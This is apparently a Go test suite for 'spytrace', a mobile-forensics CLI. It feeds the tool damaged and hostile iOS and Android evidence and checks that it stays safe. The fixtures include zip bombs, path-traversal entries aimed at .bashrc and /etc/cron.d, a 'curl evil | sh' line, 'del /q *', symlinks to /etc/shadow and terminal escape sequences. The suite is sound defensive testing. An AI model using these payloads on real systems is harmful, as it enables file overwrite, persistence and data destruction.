package cli

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime/metrics"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/spytrace/spytrace/internal/fixture"
)

// hostileDeadline is the context deadline of one hostile run; a run still going
// hostileGrace after it is a hang, and fails the test instead of blocking it. The
// deadline is generous, several times the slowest case (the million files, about 35 s
// on a loaded 2-core machine): it is there to tell an endless run from a finished one,
// not to time it, and a busy machine must not fail the suite.
const (
	hostileDeadline = 3 * time.Minute
	hostileGrace    = 30 * time.Second
)

// runBounded runs spytrace in-process like run, under a deadline.
func runBounded(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	e := testEnv(t, t.TempDir(), &out, &errb)
	ctx, cancel := context.WithTimeout(context.Background(), hostileDeadline)
	defer cancel()
	done := make(chan int, 1)
	go func() { done <- e.run(ctx, args) }()
	before, peak := heapBytes(), uint64(0)
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	deadline := time.After(hostileDeadline + hostileGrace)
wait:
	for {
		select {
		case code = <-done:
			break wait
		case <-tick.C:
			peak = max(peak, heapBytes())
		case <-deadline:
			t.Fatalf("spytrace %s did not end, %v after its deadline: it hangs", strings.Join(args, " "), hostileGrace)
		}
	}
	// For the figures of the suite (go test -v): the heap of the whole test process,
	// so only a rough measure of the run's.
	t.Logf("heap: %d MB before the run, at most %d MB during it", before>>20, peak>>20)
	if ctx.Err() != nil {
		t.Fatalf("spytrace %s reached its deadline (%v) and was interrupted:\n%s", strings.Join(args, " "), hostileDeadline, errb.String())
	}
	return code, out.String(), errb.String()
}

// heapBytes returns the bytes of the live and not yet swept heap objects.
func heapBytes() uint64 {
	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	metrics.Read(sample)
	if sample[0].Value.Kind() != metrics.KindUint64 {
		return 0
	}
	return sample[0].Value.Uint64()
}

// hashEvidence is hashTree for evidence that may hold named pipes and links: their
// mode and time are hashed, never their content (opening a pipe would block).
func hashEvidence(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		meta := fi.Mode().String() + fi.ModTime().UTC().Format(time.RFC3339Nano)
		if !fi.Mode().IsRegular() {
			if fi.Mode()&fs.ModeSymlink != 0 {
				target, _ := os.Readlink(p)
				meta += " → " + target
			}
			out[p] = meta
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		sum := sha256.Sum256(data)
		out[p] = meta + hex.EncodeToString(sum[:])
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// hostileModule is a module's entry of info.json.
type hostileModule struct {
	Name     string   `json:"name"`
	Status   string   `json:"status"`
	Reason   string   `json:"reason"`
	Records  int      `json:"records"`
	Problems []string `json:"problems"`
}

// hostileInfo is what the suite reads of info.json.
type hostileInfo struct {
	Modules     []hostileModule  `json:"modules"`
	Problems    []map[string]any `json:"problems"`
	Interrupted bool             `json:"interrupted"`
	Hashes      []struct {
		Name string `json:"name"`
		Size int64  `json:"size"`
	} `json:"hashes"`
}

func (i hostileInfo) module(name string) (hostileModule, bool) {
	for _, m := range i.Modules {
		if m.Name == name {
			return m, true
		}
	}
	return hostileModule{}, false
}

// hostileResult is one finished run.
type hostileResult struct {
	code           int
	stdout, stderr string
	out            string // the results folder
	info           hostileInfo
}

// checkHostile runs one spytrace command on hostile evidence and checks what every
// hostile run must give: it ends (no hang, no deadline reached, no internal error),
// the results folder holds info.json, alerts.json and report.html, and the evidence
// folder is unchanged.
func checkHostile(t *testing.T, evidence string, args ...string) hostileResult {
	t.Helper()
	return checkHostileChanging(t, evidence, "", args...)
}

// checkHostileChanging is checkHostile for evidence of which one file, changing, is
// written to during the run: it is left out of the comparison of the evidence.
func checkHostileChanging(t *testing.T, evidence, changing string, args ...string) hostileResult {
	t.Helper()
	before := hashEvidence(t, evidence)
	delete(before, changing)
	out := filepath.Join(t.TempDir(), "results")
	args = append(slices.Clone(args), "-o", out)
	code, stdout, stderr := runBounded(t, args...)
	if code != ExitClean && code != ExitAlerts {
		t.Errorf("exit status %d, want %d or %d: the check must run to its end\n%s", code, ExitClean, ExitAlerts, stderr)
	}
	if strings.Contains(stderr, "internal error") || strings.Contains(stderr, "panic") {
		t.Errorf("a crash reached the console:\n%s", stderr)
	}
	for _, f := range []string{"info.json", "alerts.json", ReportFile} {
		if _, err := os.Stat(filepath.Join(out, f)); err != nil {
			t.Errorf("results folder lacks %s", f)
		}
	}
	r := hostileResult{code: code, stdout: stdout, stderr: stderr, out: out}
	data, err := os.ReadFile(filepath.Join(out, "info.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &r.info); err != nil {
		t.Fatalf("info.json: %v", err)
	}
	if r.info.Interrupted {
		t.Error("info.json says the run was interrupted")
	}
	for _, m := range r.info.Modules {
		if strings.Contains(m.Reason, "panic") {
			t.Errorf("module %s panicked: %s", m.Name, m.Reason)
		}
	}
	readAlerts(t, out) // alerts.json is valid JSON
	after := hashEvidence(t, evidence)
	delete(after, changing)
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("the evidence changed (-before +after):\n%s", diff)
	}
	for _, m := range r.info.Modules {
		if m.Status == "ok" && len(m.Problems) == 0 {
			continue
		}
		t.Logf("%-34s %-8s %6d  %s %q", m.Name, m.Status, m.Records, m.Reason, m.Problems)
	}
	for _, p := range r.info.Problems {
		t.Logf("problem: %v", p)
	}
	for _, l := range strings.Split(stderr, "\n") {
		if strings.Contains(l, "warning") || strings.Contains(l, "error") {
			t.Logf("stderr: %q", l)
		}
	}
	return r
}

// soundTwin runs the sound twin of a suite's cases, whose results the cases are
// compared with, and checks that no module failed or read only part of it.
func soundTwin(t *testing.T, evidence string, args ...string) hostileInfo {
	t.Helper()
	r := checkHostile(t, evidence, args...)
	if len(r.info.Modules) == 0 {
		t.Fatal("no module ran on the sound evidence")
	}
	for _, m := range r.info.Modules {
		if m.Status == "failed" || m.Status == "partial" {
			t.Errorf("sound evidence: module %s %s (%s %q)", m.Name, m.Status, m.Reason, m.Problems)
		}
	}
	return r.info
}

// hostileExpect says how a hostile run must end for the modules.
type hostileExpect struct {
	// affected maps each module the damage reaches to words its reason or problems
	// must hold; its status must be failed or partial.
	affected map[string][]string
	// changed lists modules whose records may differ from the sound twin's for a
	// reason of the case (they list the hostile entries), besides the affected ones.
	changed []string
	// minOK is the least number of modules that must be "ok" with records.
	minOK int
}

// assertModules compares a hostile run with its sound twin's: the affected modules
// failed or partial with their reason, every other module as in the sound run (same
// status, same records count).
func assertModules(t *testing.T, got, sound hostileInfo, want hostileExpect) {
	t.Helper()
	for name, words := range want.affected {
		m, ok := got.module(name)
		if !ok {
			t.Errorf("module %s is not in info.json", name)
			continue
		}
		if m.Status != "failed" && m.Status != "partial" {
			t.Errorf("module %s: status %q (%s), want failed or partial", name, m.Status, m.Reason)
		}
		text := m.Reason + "\n" + strings.Join(m.Problems, "\n")
		for _, w := range words {
			if !strings.Contains(text, w) {
				t.Errorf("module %s: its reason and problems lack %q:\n%s", name, w, text)
			}
		}
	}
	ok := 0
	for _, s := range sound.Modules {
		if _, hit := want.affected[s.Name]; hit {
			continue
		}
		m, found := got.module(s.Name)
		if !found {
			t.Errorf("module %s is missing from info.json", s.Name)
			continue
		}
		if m.Status == "ok" && m.Records > 0 {
			ok++
		}
		if m.Status != s.Status {
			t.Errorf("module %s: status %q (%s %q), want %q as on the sound evidence", s.Name, m.Status, m.Reason, m.Problems, s.Status)
		}
		if m.Records != s.Records && !slices.Contains(want.changed, s.Name) {
			t.Errorf("module %s: %d records, want %d as on the sound evidence", s.Name, m.Records, s.Records)
		}
	}
	if ok < want.minOK {
		t.Errorf("%d other modules ok with records, want at least %d", ok, want.minOK)
	}
}

// assertNoRawControls checks that console output and command.log hold no control
// character but newline and tab: nothing an evidence file name could use to drive a
// terminal.
func assertNoRawControls(t *testing.T, r hostileResult) {
	t.Helper()
	log, err := os.ReadFile(filepath.Join(r.out, "command.log"))
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"stderr": r.stderr, "stdout": r.stdout, "command.log": string(log)} {
		assertNoRawControl(t, name, text)
	}
}

// TestHostileIOSBackup checks damaged and hostile iOS backups through the whole CLI:
// each case is the demo backup with one thing broken.
func TestHostileIOSBackup(t *testing.T) {
	sound := demoCopy(t)
	iocs := sound.Indicators
	base := soundTwin(t, filepath.Dir(sound.Backup), "ios", "check-backup", "-q", "-i", iocs, sound.Backup)
	rewrite := func(domain, rel string, damage func([]byte) []byte) func(t *testing.T, dir string) {
		return func(t *testing.T, dir string) {
			if err := fixture.RewriteStored(dir, domain, rel, damage); err != nil {
				t.Fatal(err)
			}
		}
	}
	sms := func(words ...string) map[string][]string {
		return map[string][]string{"sms": words, "sms_attachments": words}
	}
	for _, tc := range []struct {
		name   string
		damage func(t *testing.T, dir string)
		want   hostileExpect
		args   []string
		check  func(t *testing.T, r hostileResult)
	}{
		{
			name:   "sms.db truncated mid-page",
			damage: rewrite(fixture.SMSDomain, fixture.SMSPath, fixture.TruncateSQLite),
			want:   hostileExpect{affected: sms("sms.db", "malformed"), minOK: 20},
		},
		{
			name:   "sms.db with a corrupt header",
			damage: rewrite(fixture.SMSDomain, fixture.SMSPath, fixture.CorruptSQLiteHeader),
			want:   hostileExpect{affected: sms("sms.db", "not a database"), minOK: 20},
		},
		{
			name:   "sms.db-wal with a bad checksum",
			damage: rewrite(fixture.SMSDomain, fixture.SMSPath+"-wal", fixture.CorruptWALChecksum),
			want:   hostileExpect{affected: sms("sms.db-wal", "wrong checksum", "records of later transactions are missing"), minOK: 20},
		},
		{
			name:   "sms.db-wal cut in a frame",
			damage: rewrite(fixture.SMSDomain, fixture.SMSPath+"-wal", fixture.CutWALFrame),
			want:   hostileExpect{affected: sms("sms.db-wal", "cut short"), minOK: 20},
		},
		{
			// Same length, so the database stays sound (the log's checksums are made
			// again): the record holds escape sequences, a C1 control, a bidirectional
			// override and bytes that are not UTF-8; its alert is printed on the console
			// (-v) and shown with the record in the report.
			name: "control characters and invalid UTF-8 inside a message",
			damage: func(t *testing.T, dir string) {
				old, hostile := []byte("torture of detainees"), []byte("\x1b[2J\x1b]0;x\x07\xff\xfe\u202e\xc2\x9bABC")
				if len(old) != len(hostile) {
					t.Fatalf("the replacement is %d bytes, not %d", len(hostile), len(old))
				}
				rewrite(fixture.SMSDomain, fixture.SMSPath, func(db []byte) []byte { return bytes.ReplaceAll(db, old, hostile) })(t, dir)
				rewrite(fixture.SMSDomain, fixture.SMSPath+"-wal", func(wal []byte) []byte { return fixture.ReplaceInWAL(wal, old, hostile) })(t, dir)
			},
			args: []string{"-v"},
			want: hostileExpect{minOK: 20},
			check: func(t *testing.T, r hostileResult) {
				assertNoRawControls(t, r)
				assertAlert(t, r, "ioc/domain", "free247downloads.com")
				report, err := os.ReadFile(filepath.Join(r.out, ReportFile))
				if err != nil {
					t.Fatal(err)
				}
				if bytes.Contains(report, []byte("\x1b")) || bytes.Contains(report, []byte("\xff\xfe")) {
					t.Error("report.html holds the raw escape or invalid UTF-8 of the message")
				}
				if !bytes.Contains(report, []byte(`<span class="c">\x1b</span>[2J`)) {
					t.Error("report.html does not show the message's escape sequence, escaped and marked")
				}
			},
		},
		{
			name: "History.db with an unexpected schema",
			damage: func(t *testing.T, dir string) {
				db, _, err := fixture.BuildSQLite(fixture.SQLite{SQL: `CREATE TABLE history_items (id TEXT, note BLOB);
CREATE TABLE history_visits (visit TEXT, item TEXT, comment TEXT);
INSERT INTO history_items VALUES ('x', X'00');
INSERT INTO history_visits VALUES ('a', 'b', 'c');`})
				if err != nil {
					t.Fatal(err)
				}
				rewrite(fixture.SafariDomain, fixture.SafariHistoryPath, func([]byte) []byte { return db })(t, dir)
			},
			want: hostileExpect{affected: map[string][]string{"safari_history": {"History.db", "no column"}}, minOK: 20},
		},
		{
			name: "Manifest.db rows pointing outside the backup",
			damage: func(t *testing.T, dir string) {
				canary := filepath.Join(filepath.Dir(dir), "canary")
				if err := os.WriteFile(canary, []byte("outside the backup "+fixture.DemoInfectionURL), 0o644); err != nil {
					t.Fatal(err)
				}
				for _, r := range [][3]string{
					{fixture.FileID("HomeDomain", "../../etc/passwd"), "HomeDomain", "../../etc/passwd"},
					{fixture.FileID("HomeDomain", "/etc/passwd"), "HomeDomain", "/etc/passwd"},
					{"../canary", "HomeDomain", "Library/SMS/canary.db"},
					{"/etc/passwd", "HomeDomain", "Library/passwd"},
					{"0123456789abcdef", "HomeDomain", "Library/short-id"},
					{fixture.FileID("../..", "etc"), "../..", "etc"},
				} {
					if err := fixture.AddManifestRow(dir, r[0], r[1], r[2], 1, nil); err != nil {
						t.Fatal(err)
					}
				}
			},
			want: hostileExpect{changed: []string{"manifest"}, minOK: 25},
			check: func(t *testing.T, r hostileResult) {
				for _, w := range []string{`relativePath "../../etc/passwd"`, `relativePath "/etc/passwd"`, `fileID "../canary"`,
					`fileID "/etc/passwd"`, `fileID "0123456789abcdef"`, `domain "../.."`} {
					assertProblem(t, r.info, "rejected_row", w)
				}
				// Nothing outside the backup was read: the canary's link raised nothing and
				// no file outside is hashed.
				for _, h := range r.info.Hashes {
					if strings.Contains(h.Name, "canary") || strings.Contains(h.Name, "passwd") {
						t.Errorf("info.json hashes %q", h.Name)
					}
				}
				data, err := os.ReadFile(filepath.Join(r.out, "alerts.json"))
				if err != nil || bytes.Contains(data, []byte("outside the backup")) {
					t.Errorf("the canary outside the backup was read (%v)", err)
				}
			},
		},
		{
			// The file-bytes limit lowered to 8 MiB (default 256 MiB) keeps the case
			// small; the property-list decoder's own bound (64 MiB) is the same path.
			name: "Info.plist just over the file-bytes limit",
			damage: func(t *testing.T, dir string) {
				if err := os.WriteFile(filepath.Join(dir, "Info.plist"), fixture.HugePlist(8<<20+1024), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			args: []string{"-q", "--limit", "file-bytes=8MiB"},
			want: hostileExpect{affected: map[string][]string{"backup_info": {"Info.plist", "limit"}, "applications": {"Info.plist", "limit"}}, minOK: 20},
			check: func(t *testing.T, r hostileResult) {
				assertAlert(t, r, "limit/file-bytes", "Info.plist")
			},
		},
		{
			name: "cyclic, deep and exponential NSKeyedArchiver metadata",
			damage: func(t *testing.T, dir string) {
				for _, b := range []struct {
					rel   string
					build func(string) ([]byte, error)
				}{
					{"Library/cyclic.plist", fixture.CyclicMBFile},
					{"Library/deep.plist", func(rel string) ([]byte, error) { return fixture.DeepMBFile(rel, 5000) }},
					// Shallower than the MBFile depth bound (16), but 2^14 references.
					{"Library/laughs.plist", func(rel string) ([]byte, error) { return fixture.LaughsMBFile(rel, 14) }},
				} {
					blob, err := b.build(b.rel)
					if err != nil {
						t.Fatal(err)
					}
					if err := fixture.AddStoredFile(dir, "HomeDomain", b.rel, []byte("x"), fixture.Epoch); err != nil {
						t.Fatal(err)
					}
					if err := fixture.SetManifestBlob(dir, "HomeDomain", b.rel, blob); err != nil {
						t.Fatal(err)
					}
				}
			},
			want: hostileExpect{affected: map[string][]string{"manifest": {"deep.plist", "MaxDepth", "laughs.plist", "MaxObjects"}}, minOK: 25},
			check: func(t *testing.T, r hostileResult) {
				data, err := os.ReadFile(filepath.Join(r.out, "manifest.json"))
				if err != nil || !bytes.Contains(data, []byte("Library/cyclic.plist")) {
					t.Errorf("the file with a cyclic MBFile is not listed (%v)", err)
				}
			},
		},
		{
			name: "names with control characters and invalid UTF-8",
			damage: func(t *testing.T, dir string) {
				for i, n := range fixture.HostileNames {
					// A configuration profile stub that is not a plist, and a plain
					// file, under each name.
					if err := fixture.AddStoredFile(dir, fixture.ProfilesDomain, fixture.ProfilesFolder+"/profile-"+n+".stub", []byte("not a plist "+n), fixture.Epoch); err != nil {
						t.Fatal(err)
					}
					if err := fixture.AddStoredFile(dir, "HomeDomain"+strings.Repeat("\x1b", i%2), "Library/"+n, []byte(n), fixture.Epoch); err != nil {
						t.Fatal(err)
					}
				}
			},
			args:  []string{"-v"},
			want:  hostileExpect{affected: map[string][]string{"configuration_profiles": {"profile-"}}, changed: []string{"manifest"}, minOK: 20},
			check: assertNoRawControls,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := demoCopy(t)
			tc.damage(t, d.Backup)
			args := append([]string{"ios", "check-backup", "-i", iocs}, tc.args...)
			if len(tc.args) == 0 {
				args = append(args, "-q")
			}
			r := checkHostile(t, filepath.Dir(d.Backup), append(args, d.Backup)...)
			assertModules(t, r.info, base, tc.want)
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
}

// assertProblem checks that the acquisition reported a problem of kind whose name or
// message holds every one of words.
func assertProblem(t *testing.T, info hostileInfo, kind string, words ...string) {
	t.Helper()
	for _, p := range info.Problems {
		if p["kind"] != kind {
			continue
		}
		text := fmt.Sprint(p["name"], " ", p["message"])
		all := true
		for _, w := range words {
			all = all && strings.Contains(text, w)
		}
		if all {
			return
		}
	}
	t.Errorf("no acquisition problem %q naming %q among %v", kind, words, info.Problems)
}

// assertAlert checks that alerts.json holds an alert of check whose message holds
// every one of words.
func assertAlert(t *testing.T, r hostileResult, check string, words ...string) {
	t.Helper()
	for _, a := range readAlerts(t, r.out) {
		msg, _ := a["message"].(string)
		all := a["check"] == check
		for _, w := range words {
			all = all && strings.Contains(msg, w)
		}
		if all {
			return
		}
	}
	t.Errorf("no %s alert naming %q", check, words)
}

// writeZip writes data as name into a new folder and returns its path.
func writeZip(t *testing.T, name string, data []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// hostileBomb is the size of the zero runs of the bombs: past the 64 MiB from which
// the ratio limit applies, inflating about 800 times.
const hostileBomb = 96 << 20

// TestHostileAndroid checks hostile bug reports, androidqf collections and adb backups
// through the whole CLI: zip bombs, unsafe names and links in zips and in a backup's
// tar, deeply nested JSON, names with control characters, a named pipe in a folder.
func TestHostileAndroid(t *testing.T) {
	iocs := androidIndicators(t)
	brFiles, _, err := fixture.ScenarioBugreportFiles(true)
	if err != nil {
		t.Fatal(err)
	}
	br := map[string][]byte{}
	for name, f := range brFiles {
		br[name] = f.Data
	}
	qf, _, err := fixture.ScenarioAndroidQF(true)
	if err != nil {
		t.Fatal(err)
	}
	zipWith := func(t *testing.T, files map[string][]byte, extra ...fixture.ZipEntry) []byte {
		t.Helper()
		data, err := fixture.ZipWith(files, fixture.ZipOptions{}, extra...)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	soundBR := writeZip(t, "bugreport.zip", zipWith(t, br))
	brBase := soundTwin(t, filepath.Dir(soundBR), "android", "check-bugreport", "-q", "-i", iocs, soundBR)
	soundQF := writeZip(t, "androidqf.zip", zipWith(t, qf))
	qfBase := soundTwin(t, filepath.Dir(soundQF), "android", "check-androidqf", "-q", "-i", iocs, soundQF)
	writeAB := func(t *testing.T, extra ...fixture.AndroidBackupFile) string {
		t.Helper()
		ab, _, err := fixture.ScenarioAndroidBackup(true, "", extra...)
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(t.TempDir(), "backup.ab")
		if err := os.WriteFile(p, ab, 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	soundAB := writeAB(t)
	abBase := soundTwin(t, filepath.Dir(soundAB), "android", "check-backup", "-q", "-i", iocs, soundAB)
	without := func(files map[string][]byte, names ...string) map[string][]byte {
		out := map[string][]byte{}
		for k, v := range files {
			if !slices.Contains(names, k) {
				out[k] = v
			}
		}
		return out
	}
	unsafeNames := []fixture.ZipEntry{
		{Name: "../../../../home/analyst/.bashrc", Data: []byte("curl evil | sh\n")},
		{Name: "/etc/cron.d/evil", Data: []byte("* * * * * root sh\n")},
		{Name: "C:/Windows/System32/evil.dll", Data: []byte("MZ")},
		{Name: `..\..\evil.bat`, Data: []byte("del /q *")},
	}
	tomb := fixture.TombstoneDir + "/"
	// bugreport_timestamps lists every entry of the bug report: added ones too.
	brListing := []string{"bugreport_timestamps"}
	for _, tc := range []struct {
		name    string
		command string
		base    hostileInfo
		input   func(t *testing.T) string
		want    hostileExpect
		args    []string
		check   func(t *testing.T, r hostileResult)
	}{
		{
			name: "bug report zip with a zip bomb", command: "check-bugreport", base: brBase,
			input: func(t *testing.T) string {
				return writeZip(t, "bugreport.zip", zipWith(t, br, fixture.ZipEntry{Name: tomb + "tombstone_99", Zeros: hostileBomb}))
			},
			want: hostileExpect{affected: map[string][]string{"tombstones": {"tombstone_99", "zip bomb"}}, changed: brListing, minOK: 10},
			check: func(t *testing.T, r hostileResult) {
				assertProblem(t, r.info, "limit_reached", "tombstone_99")
				assertAlert(t, r, "limit/acquisition", "tombstone_99")
			},
		},
		{
			name: "bug report zip with unsafe names and links", command: "check-bugreport", base: brBase,
			input: func(t *testing.T) string {
				extra := append(unsafeNames,
					fixture.ZipEntry{Name: tomb + "tombstone_50", Link: "/etc/passwd"},
					fixture.ZipEntry{Name: tomb + "tombstone_51", Link: "../../../../../../../../etc/shadow"})
				return writeZip(t, "bugreport.zip", zipWith(t, br, extra...))
			},
			want: hostileExpect{affected: map[string][]string{"tombstones": {"tombstone_50", "tombstone_51", "symbolic link"}}, changed: brListing, minOK: 10},
			check: func(t *testing.T, r hostileResult) {
				for _, n := range []string{"home/analyst", "/etc/cron.d/evil", "C:/Windows", "evil.bat"} {
					assertProblem(t, r.info, "unsafe_path", n)
				}
			},
		},
		{
			name: "bug report zip with control characters in names", command: "check-bugreport", base: brBase, args: []string{"-v"},
			input: func(t *testing.T) string {
				var extra []fixture.ZipEntry
				for _, n := range fixture.HostileNames {
					extra = append(extra, fixture.ZipEntry{Name: tomb + "tombstone_" + n, Data: []byte("\x1b[2J not a tombstone \x1b]0;title\x07")})
				}
				return writeZip(t, "bugreport.zip", zipWith(t, br, extra...))
			},
			want:  hostileExpect{affected: map[string][]string{"tombstones": {"tombstone_", "not a tombstone"}}, changed: brListing, minOK: 10},
			check: assertNoRawControls,
		},
		{
			name: "androidqf packages.json nested 100,000 levels", command: "check-androidqf", base: qfBase,
			input: func(t *testing.T) string {
				files := without(qf, fixture.AQFPackagesName)
				files[fixture.AQFPackagesName] = fixture.DeepJSON(100_000)
				return writeZip(t, "androidqf.zip", zipWith(t, files))
			},
			want: hostileExpect{affected: map[string][]string{"aqf_packages": {fixture.AQFPackagesName, "depth"}}, minOK: 20},
		},
		{
			name: "androidqf zip with unsafe names and links", command: "check-androidqf", base: qfBase,
			input: func(t *testing.T) string {
				extra := append(unsafeNames, fixture.ZipEntry{Name: fixture.AQFProcessesJSONName, Link: "/proc/self/environ"})
				return writeZip(t, "androidqf.zip", zipWith(t, without(qf, fixture.AQFProcessesJSONName), extra...))
			},
			want: hostileExpect{affected: map[string][]string{"aqf_processes": {fixture.AQFProcessesJSONName, "symbolic link"}}, minOK: 20},
			check: func(t *testing.T, r hostileResult) {
				for _, n := range []string{"home/analyst", "/etc/cron.d/evil", "C:/Windows", "evil.bat"} {
					assertProblem(t, r.info, "unsafe_path", n)
				}
			},
		},
		{
			name: "adb backup with unsafe names, links and control characters in its tar", command: "check-backup", base: abBase,
			input: func(t *testing.T) string {
				return writeAB(t,
					fixture.AndroidBackupFile{Name: "../../../../home/analyst/.bashrc", Data: []byte("curl evil | sh\n")},
					fixture.AndroidBackupFile{Name: "/etc/cron.d/evil", Data: []byte("* * * * * root sh\n")},
					fixture.AndroidBackupFile{Name: "apps/com.evil/f/../../../../../evil", Data: []byte("outside")},
					fixture.AndroidBackupFile{Name: fixture.AndroidTelephonyDir + "/link", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
					fixture.AndroidBackupFile{Name: "apps/com.evil/f/\x1b]0;title\x07\xff\u202e", Data: []byte("\x1b[2J")})
			},
			args: []string{"-v"},
			want: hostileExpect{minOK: 1},
			check: func(t *testing.T, r hostileResult) {
				// An absolute name is read below the backup's root, as tar extracts it.
				for _, n := range []string{"home/analyst", "apps/com.evil/f/../", "not valid UTF-8"} {
					assertProblem(t, r.info, "unsafe_path", n)
				}
				assertAlert(t, r, "ioc/domain")
				assertNoRawControls(t, r)
			},
		},
		{
			name: "bug report folder with a named pipe for a tombstone", command: "check-bugreport", base: brBase,
			input: func(t *testing.T) string {
				dir := filepath.Join(t.TempDir(), "bugreport")
				if _, err := fixture.WriteScenarioBugreportFolder(dir, true); err != nil {
					t.Fatal(err)
				}
				if err := fixture.MakeFIFO(filepath.Join(dir, filepath.FromSlash(tomb+"tombstone_00"))); errors.Is(err, errors.ErrUnsupported) {
					t.Skip(err)
				} else if err != nil {
					t.Fatal(err)
				}
				return dir
			},
			want: hostileExpect{affected: map[string][]string{"tombstones": {"tombstone_00", "not a regular file"}}, changed: brListing, minOK: 10},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			input := tc.input(t)
			args := append([]string{"android", tc.command, "-i", iocs}, tc.args...)
			if len(tc.args) == 0 {
				args = append(args, "-q")
			}
			r := checkHostile(t, filepath.Dir(input), append(args, input)...)
			assertModules(t, r.info, tc.base, tc.want)
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
}

// TestHostileIOSDump checks hostile iOS file-system dumps through the whole CLI: a
// tar.gz bomb, links and unsafe names in a tar, a named pipe for an artifact, a folder
// of many tiny files and a .tar.gz of a million.
func TestHostileIOSDump(t *testing.T) {
	sound, iocs := writeDump(t, true)
	base := soundTwin(t, sound, "ios", "check-fs", "-q", "-i", iocs, sound)
	copyDump := func(t testing.TB) string {
		t.Helper()
		dir := filepath.Join(t.TempDir(), "dump")
		if err := os.CopyFS(dir, os.DirFS(sound)); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	tarOf := func(t *testing.T, name string, gz bool, extra ...fixture.TarEntry) string {
		return writeTar(t, sound, name, gz, extra...)
	}
	const smsPath = "private/var/mobile/Library/SMS/sms.db"
	// The many-files case in a folder: writing a million files takes minutes on a loaded
	// disk, so 20,000, once with the default limits and once with an entry limit below
	// them; the million is a .tar.gz.
	var tiny string
	parent := t
	tinyDump := func(t *testing.T) string {
		if tiny == "" {
			// Under the parent's folder: the subtests that share it come and go.
			tiny = copyDump(parent)
			if err := fixture.WriteTinyFiles(filepath.Join(tiny, "private/var/mobile/Library/Caches/tiny"), hostileTinyFiles); err != nil {
				t.Fatal(err)
			}
		}
		return tiny
	}
	// filesystem lists every file of the dump: added ones too.
	listing := []string{"filesystem"}
	for _, tc := range []struct {
		name  string
		input func(t *testing.T) string
		args  []string
		want  hostileExpect
		check func(t *testing.T, r hostileResult)
	}{
		{
			// The ratio is measured over the whole stream, so the limit is lowered to
			// 10 (default 200) to keep the bomb small.
			name: "tar.gz bomb",
			input: func(t *testing.T) string {
				return tarOf(t, "dump.tar.gz", true, fixture.TarEntry{Name: "private/var/mobile/Library/Caches/bomb.bin", Zeros: hostileBomb})
			},
			args: []string{"--limit", "ratio=10"},
			want: hostileExpect{affected: map[string][]string{"filesystem": {"stopped at a limit"}}, minOK: 30},
			check: func(t *testing.T, r hostileResult) {
				assertProblem(t, r.info, "limit_reached", "ratio")
				assertAlert(t, r, "limit/acquisition")
			},
		},
		{
			name: "tar with links outside and unsafe names",
			input: func(t *testing.T) string {
				return tarOf(t, "dump.tar", false,
					fixture.TarEntry{Name: smsPath, Link: "/etc/passwd"},
					fixture.TarEntry{Name: "private/var/mobile/Library/escape", Link: "../../../../../../../../../etc/shadow"},
					fixture.TarEntry{Name: "../../../../tmp/evil", Data: []byte("outside")},
					fixture.TarEntry{Name: "private/var/../../../evil2", Data: []byte("outside")})
			},
			want: hostileExpect{affected: map[string][]string{"sms": {"sms.db", "symbolic link"}, "sms_attachments": {"sms.db", "symbolic link"}},
				changed: listing, minOK: 30},
			check: func(t *testing.T, r hostileResult) {
				assertProblem(t, r.info, "unsafe_path", "tmp/evil")
				assertProblem(t, r.info, "unsafe_path", "evil2")
				assertProblem(t, r.info, "duplicate_name", "sms.db")
			},
		},
		{
			name: "folder with a named pipe for sms.db",
			input: func(t *testing.T) string {
				dir := copyDump(t)
				if err := fixture.MakeFIFO(filepath.Join(dir, filepath.FromSlash(smsPath))); errors.Is(err, errors.ErrUnsupported) {
					t.Skip(err)
				} else if err != nil {
					t.Fatal(err)
				}
				return dir
			},
			want: hostileExpect{affected: map[string][]string{"sms": {"sms.db", "not a regular file"}, "sms_attachments": {"sms.db", "not a regular file"}},
				changed: listing, minOK: 30},
		},
		{
			name:  "folder with many tiny files",
			input: tinyDump,
			want:  hostileExpect{changed: listing, minOK: 30},
			check: func(t *testing.T, r hostileResult) {
				if m, _ := r.info.module("filesystem"); m.Records < hostileTinyFiles {
					t.Errorf("filesystem lists %d entries, fewer than the %d tiny files", m.Records, hostileTinyFiles)
				}
			},
		},
		{
			name: "tar.gz of a million tiny files",
			input: func(t *testing.T) string {
				extra := make([]fixture.TarEntry, hostileMillion)
				for i := range extra {
					extra[i] = fixture.TarEntry{Name: fmt.Sprintf("private/var/mobile/Library/Caches/tiny/d%04d/f%07d", i/1000, i), Data: []byte{'x', byte('0' + i%10)}}
				}
				return tarOf(t, "dump.tar.gz", true, extra...)
			},
			want: hostileExpect{changed: listing, minOK: 30},
			check: func(t *testing.T, r hostileResult) {
				if m, _ := r.info.module("filesystem"); m.Records < hostileMillion {
					t.Errorf("filesystem lists %d entries, fewer than the %d tiny files", m.Records, hostileMillion)
				}
			},
		},
		{
			name:  "folder with many tiny files, over the entry limit",
